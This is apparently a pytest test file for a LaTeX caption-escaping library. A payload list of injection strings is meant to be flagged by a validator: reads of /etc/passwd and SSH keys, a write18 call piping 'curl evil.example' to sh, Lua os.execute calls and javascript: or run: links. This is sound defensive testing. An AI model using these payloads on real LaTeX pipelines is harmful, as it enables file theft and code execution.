"""Escaping: what must never be written, what must stay as it is, and what becomes LaTeX."""

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from capassist.text.escape import syntax_errors, to_ascii, to_latex
from capassist.text.latex import to_plain

PAYLOADS = [
    # reads files, runs programs, writes
    (r"\input{/etc/passwd}", "macro"),
    (r"\input/etc/passwd ", "macro"),
    (r"A plot\include{secret}.", "macro"),
    (r"\InputIfFileExists{x}{a}{b}", "macro"),
    (r"\openin5=/etc/passwd \read5 to\line \line", "macro"),
    (r"\newread\file\openin\file=~/.ssh/id_rsa", "macro"),
    (r"\immediate\write18{curl evil.example | sh}", "macro"),
    (r"\write18{id}", "macro"),
    (r"\openout3=x.tex", "macro"),
    (r"\directlua{os.execute('id')}", "macro"),
    (r"\latelua{os.exit()}", "macro"),
    (r"\luaexec{print(1)}", "macro"),
    (r"\ShellEscape{id}", "macro"),
    (r"\special{psfile=/etc/passwd}", "macro"),
    (r"\pdffiledump offset 0 length 100 {/etc/passwd}", "macro"),
    (r"\verbatiminput{/etc/passwd}", "macro"),
    (r"\lstinputlisting{/etc/passwd}", "macro"),
    (r"\inputminted{text}{/etc/passwd}", "macro"),
    (r"\includegraphics{../../private.pdf}", "macro"),
    (r"\includepdf{/home/me/tax.pdf}", "macro"),
    (r"\subfile{../x}", "macro"),
    (r"\import{/etc/}{passwd}", "macro"),
    (r"\addbibresource{/etc/passwd}", "macro"),
    (r"\attachfile{/etc/passwd}", "macro"),
    (r"\pgfplotstableread{/etc/passwd}\x", "macro"),
    (r"\pdfmdfivesum file {/etc/passwd}", "macro"),
    (r"\pdffilesize{/etc/passwd}", "macro"),
    (r"\pdfmapfile{x.map}", "macro"),
    (r"\pdfannot{/Subtype/Link}", "macro"),
    (r"\XeTeXpicfile /tmp/x.png", "macro"),
    (r"\luafunction 1", "macro"),
    (r"\BVerbatimInput{/etc/passwd}", "macro"),
    (r"\csvautotabular{/home/me/grades.csv}", "macro"),
    (r"\DTLloaddb{x}{/home/me/grades.csv}", "macro"),
    (r"\addplot file {/etc/passwd}", "macro"),
    (r"\hypersetup{pdfauthor=x}", "macro"),
    (r"\Acrobatmenu{Print}{print}", "macro"),
    (r"\font\x=cmr10 at 1000pt \x", "macro"),
    (r"$\mathrm{\input{x}}$", "macro"),
    (r"\textbf{\emph{\input{x}}}", "macro"),
    (r"\ref{\input{x}}", "macro"),
    (r"\href{run:/bin/sh}{click}", "link"),
    (r"\href {FILE:///etc/passwd}{click}", "link"),
    (r"\href[pdfnewwindow]{javascript:app.alert(1)}{click}", "link"),
    (r"\url{javascript:app.alert(1)}", "link"),
    (r"\url{run:calc.exe}", "link"),
    # defines and rereads
    (r"\def\x{\x}\x", "macro"),
    (r"\edef\x{1}", "macro"),
    (r"\gdef\section{}", "macro"),
    (r"\let\ref\input", "macro"),
    (r"\global\let\ref=\cite", "macro"),
    (r"\newcommand{\x}{y}", "macro"),
    (r"\renewcommand\ref[1]{}", "macro"),
    (r"\DeclareRobustCommand{\x}{y}", "macro"),
    (r"\NewDocumentCommand\x{}{y}", "macro"),
    (r"\catcode`\@=0 @input{x}", "macro"),
    (r"\csname in" + r"put\endcsname{x}", "macro"),
    (r"\expandafter\input\relax x", "macro"),
    (r"\scantokens{x}", "macro"),
    (r"\lccode`A=`B", "macro"),
    (r"\makeatletter", "macro"),
    (r"\aftergroup\input", "macro"),
    (r"\loop\iftrue\repeat", "macro"),
    (r"\ExplSyntaxOn", "macro"),
    (r"\setcounter{figure}{99}", "macro"),
    (r"\everypar{x}", "macro"),
    (r"\everyvbox{x}", "macro"),
    (r"\NewCommandCopy\ref\cite", "macro"),
    (r"\LetLtxMacro\ref\input", "macro"),
    (r"\csdef{ref}{x}", "macro"),
    (r"\csuse{input}{/etc/passwd}", "macro"),
    (r"\patchcmd{\section}{a}{b}{}{}", "macro"),
    (r"\pretocmd{\ref}{x}{}{}", "macro"),
    (r"\globaldefs=1 \emph{x}", "macro"),
    (r"\setbox0=\hbox{x}", "macro"),
    (r"\unless\emph{x}", "macro"),
    (r"\DeclareUnicodeCharacter{00E9}{x}", "macro"),
    # ends or rearranges the document
    (r"\usepackage{shellesc}", "macro"),
    (r"\documentclass{article}", "macro"),
    (r"\endinput", "macro"),
    (r"A\bye", "macro"),
    (r"\iffalse", "macro"),
    (r"\ifx a b\else", "macro"),
    (r"\fi", "macro"),
    (r"\egroup\input", "macro"),
    (r"\caption{another}", "macro"),
    (r"\section{New}", "macro"),
    (r"\newpage", "macro"),
    (r"\pagestyle{empty}", "macro"),
    (r"\appendix", "macro"),
    (r"\AtBeginEnvironment{figure}{x}", "macro"),
    (r"\halign{#\cr x\cr}", "macro"),
    (r"\showthe\count0", "macro"),
    (r"\tracingall", "macro"),
    (r"\verb|x|", "macro"),
    (r"\lstinline|x_1|", "macro"),
    (r"\end{document}", "environment"),
    (r"\end{figure}", "environment"),
    (r"\begin{input}{/etc/passwd}\end{input}", "environment"),
    (r"\begin{verbatim}x\end{verbatim}", "environment"),
    (r"\begin{tabular}{l}a\end{tabular}", "environment"),
    (r"\begin{equation}x\end{equation}", "environment"),
    (r"\begin {document}", "environment"),
    (r"\begin{matrix}1\end{matrix}", "environment"),
    (r"$\begin{matrix}1$", "environment"),
    (r"$\begin{matrix}1\end{cases}$", "environment"),
    (r"$\begin{filecontents}{x}\end{filecontents}$", "environment"),
    # other characters than those seen
    (r"\^^69nput{x}", "carets"),
    ("^^5cinput{x}", "carets"),
    ("$^^M$", "carets"),
    ("a\x1b[31mb", "control"),
    ("a\x00b", "control"),
    ("a\x9bb", "control"),
    ("a\rb", "control"),
    ("a\u202egnp.exe", "invisible"),
    ("a\u2066b\u2069", "invisible"),
    ("pay\u200bload", "invisible"),
    ("a\u200db", "invisible"),
    ("a\U000e0041b", "invisible"),
    ("a\u2028b", "invisible"),
    ("a\udc80b", "invisible"),
    ("a\uffffb", "invisible"),
    # swallows, closes, or leaves open
    ("50% of runs", "comment"),
    ("rest is lost %", "comment"),
    (r"two \\% of", "comment"),
    (r"\ref{a%b}", "comment"),
    ("$5% x$", "comment"),
    ("first % second\nthird", "comment"),
    ("a }", "braces"),
    ("{ a", "braces"),
    ("} a {", "braces"),
    (r"\textbf{a", "braces"),
    (r"a \}}", "braces"),
    ("costs $5", "unpaired"),
    (r"\(x", "unpaired"),
    (r"x\)", "unpaired"),
    ("$$x$$", "maths"),
    (r"\[x\]", "maths"),
    ("$x{$}$", "maths"),
    ("a & b", "special"),
    ("run #3", "special"),
    ("$#1$", "special"),
    ("$a & b$", "special"),
    ("a_b", "special"),
    ("10^3", "special"),
    ("the end\\", "backslash"),
    ("one\n\ntwo", "paragraph"),
    ("one\r\n \r\ntwo", "paragraph"),
    (r"one\par two", "paragraph"),
]

CLEAN = [
    "Mean latency over ten runs.",
    r"Overview of \ours{} (left) and the baseline~\cite{smith_2019,doe:20} (right), see Section~\ref{sec:a_b}.",
    r"Accuracy in \% for 5\,\% and $\approx 3\%$ noise, R\&D only, run \#3, file\_name, \$5.",
    r"\textbf{(a)} Loss $L_{\mathrm{train}}^2$; \textbf{(b)} $x \in \{0, 1\}$; (c) \(y_i < 3\).",
    r"The matrix $\begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix}$ and $\begin{cases} a & b \\ c & d \end{cases}$.",
    r"See \url{https://example.org/a_b?x=1&y=2\#top} and \href{https://example.org/a_b}{the site}.",
    r"Units: \SI{5}{\micro\metre^2}, \ce{H2O_2}, \num{1e-3}, 20\,$^\circ$C.",
    r"By \figref{my_plot} and \fig{other_plot}, as in \hyperref[fig:a_b]{the figure}.",
    "Two lines%\n joined, and a comment-free rest.",
    "Two\r\nlines in a Windows file.",
    r"M\"uller, Erd\H{o}s, \`a la carte, na\"{\i}ve; Łódź, Öl, 東京, Москва.",
    "«Guillemets», „Anführung“ und – Striche …",
    r"An iff is \(\iff\), \newline is allowed, so is \\ a break.",
    r"$x_{\text{if $y > 0$}}$ holds.",
    r"Code in \texttt{a\_b}, \lstinline{a_b} and \path{/tmp/a_b}.",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    r"\label{fig:a_b}Label first.",
    r"\tikz\draw[red] (0,0) -- (1,0); marks the mean.",
    r"\\[2pt] \, \; \: \! \/ \- \@ \ end",
    "",
]


@pytest.mark.parametrize(("text", "code"), PAYLOADS, ids=[ascii(text)[:40] for text, _ in PAYLOADS])
def test_what_must_not_be_written_is_named(text: str, code: str) -> None:
    assert code in {fault.code for fault in syntax_errors(text)}


@pytest.mark.parametrize("text", CLEAN, ids=lambda text: ascii(text)[:40])
def test_captions_as_people_write_them_pass(text: str) -> None:
    assert syntax_errors(text) == ()


def test_a_fault_points_at_its_characters() -> None:
    (fault,) = syntax_errors(r"safe \input safe")
    assert fault.span == (5, 11)
    assert r"\input" in fault.message


@given(st.text())
def test_faults_are_found_in_any_text_without_failing(text: str) -> None:
    for fault in syntax_errors(text):
        assert 0 <= fault.span[0] < fault.span[1] <= len(text)


LATEX_ALREADY = [
    *(text for text in CLEAN if text.isascii() and "\r" not in text),
    r"\textasciitilde{}/home, $\sim$5, \textasciicircum{}, \textbackslash{}",
    "$a$<$b$".replace("<", "$<$"),
    r"``Quoted'' and `single'; 5\,mm--7\,mm --- so",
    '"`Deutsch"\' mit babel',
    "\u03a4\u03bf \u03c3\u03c7\u03ae\u03bc\u03b1",
]


@pytest.mark.parametrize("text", LATEX_ALREADY, ids=lambda text: ascii(text)[:40])
def test_latex_stays_as_it_is(text: str) -> None:
    assert to_latex(text) == text


ESCAPED = [
    ("50% of a_b & #3", r"50\% of a\_b \& \#3"),
    (r"50\% of 30%", r"50\% of 30\%"),
    (r"a\\% b", r"a\\\% b"),
    ("costs $5 and $6", r"costs \$5 and \$6"),
    ("$5-$10 per run", r"\$5-\$10 per run"),
    ("for $x$ it is $5", r"for $x$ it is \$5"),
    ("$x_1$ & y_1", r"$x_1$ \& y\_1"),
    (r"\ref{a_b} a_b \cite[p.~3]{c_d}", r"\ref{a_b} a\_b \cite[p.~3]{c_d}"),
    (r"\emph{a_b}", r"\emph{a\_b}"),
    (r"\url{x?a_b&c%20d}", r"\url{x?a_b&c\%20d}"),
    ("~5 runs in ~/x, Fig.~3", r"$\sim$5 runs in \textasciitilde{}/x, Fig.~3"),
    ("y ~ x, Algorithm~ 5, so ~\\cite{a}", r"y $\sim$ x, Algorithm~ 5, so ~\cite{a}"),
    ("one%\ntwo 5%\n", "one%\ntwo 5\\%\n"),
    ("10^3", r"10\textasciicircum{}3"),
    ("‘“in” out’, “out ‘in’”", "`{}``in'' out', ``out `in'{}''"),
    ("5–-3, a–—b", "5--{}-3, a--{}---b"),
    ("p < 0.05 | q > 1", "p $<$ 0.05 $|$ q $>$ 1"),
    ('the "best" ("so") one', "the ``best'' (``so'') one"),
    ("“a” ‘b’ – c — d’s…", r"``a'' `b' -- c --- d's\ldots{}"),
    ("5 µm, 20 °C, ±3, ≥ 4 × 5", r"5 $\mu$m, 20 $^\circ$C, $\pm$3, $\geq$ 4 $\times$ 5"),
    ("10⁻³ m² CO₂", "10$^{-3}$ m$^{2}$ CO$_{2}$"),
    ("$≤5$, $αx$, $α+β²$", r"$\leq5$, $\alpha x$, $\alpha+\beta^{2}$"),
    ("α = 3", r"$\alpha$ = 3"),
    ("𝑥 ∈ ℝ, 𝐰, 𝛼, ℒ, 𝟎", r"$x$ $\in$ $\mathbb{R}$, $\mathbf{w}$, $\alpha$, $\mathcal{L}$, $\mathbf{0}$"),
    ("$𝑥𝑦 ⟹ ŷ$", r"$x y \Longrightarrow ŷ$"),
    ("x\u0304 = e\u0301, $x\u0302$", r"$\bar{x}$ = é, $\hat{x}$"),
    ("⅓, Ⅳ, 20 ℃", r"1/3, IV, 20 $^\circ$C"),
    ("⌈a⌉ ⋯ ✗", r"$\lceil$a$\rceil$ $\cdots$ $\times$"),
    ("$50% & #$", r"$50\% \& \#$"),
    ("a {b", r"a \{b"),
    ("a} b", r"a\} b"),
    ("{a} b", "{a} b"),
    (r"C:\1 and \é", r"C:\textbackslash{}1 and \textbackslash{}é"),
    ("ends in \\", r"ends in \textbackslash{}"),
    (r"a \( b", r"a \textbackslash{}( b"),
    ("one\n\n\ntwo", "one\ntwo"),
    ("a\u00a0b \u00a0c 5\u2009mm", r"a~b  c 5\,mm"),
    ("ﬁne \ufeffﬂow", "fine flow"),
    ("ex\u00adample", r"ex\-ample"),
]


@pytest.mark.parametrize(("text", "latex"), ESCAPED, ids=[ascii(text)[:40] for text, _ in ESCAPED])
def test_text_becomes_latex(text: str, latex: str) -> None:
    assert to_latex(text) == latex


MARKUP = st.lists(
    st.sampled_from(
        [*"$%&#_^~\\{}()[]<>|\"'`-/ \n5ab.é≤µα²…–“", "\\ref{", "\\(", "\\)", "$x$", "\\textbf{", "\\%", "\u00a0"]
    )
).map("".join)


@given(st.text() | MARKUP)
def test_escaping_twice_is_escaping_once(text: str) -> None:
    once = to_latex(text)
    assert to_latex(once) == once


@given(
    st.text(st.characters(exclude_categories=["C", "Zl", "Zp"], exclude_characters="\\") | st.sampled_from("\n\t"))
    | MARKUP
)
def test_what_is_escaped_can_be_written(text: str) -> None:
    faults = {fault.code for fault in syntax_errors(to_latex(text))}
    assert faults <= ({"maths", "carets"} if "$" in text or "\\" in text else set())


@given(st.text(st.sampled_from("abc XYZ.,:;%&#_^<>|éß中()[]≤µ°αΩ²…“”‘’–—5")))
def test_a_reader_sees_what_was_written(text: str) -> None:
    def seen(shown: str) -> str:
        same = shown.replace(" ", "").replace("‘‘", "“").replace("’’", "”")
        return unicodedata.normalize("NFKC", same)

    assert seen(to_plain(to_latex(text))) == seen(text)


ASCII = [
    ("é", r"\'{e}"),
    ("ő", r"\H{o}"),
    ("ǘ", None),
    ("ł", r"\l{}"),
    ("ß", r"\ss{}"),
    ("≤", r"$\leq$"),
    ("中", None),
    ("Ω", r"$\Omega$"),
]


@pytest.mark.parametrize(("letter", "latex"), ASCII)
def test_a_letter_that_the_encoding_lacks(letter: str, latex: str | None) -> None:
    assert to_ascii(letter) == latex
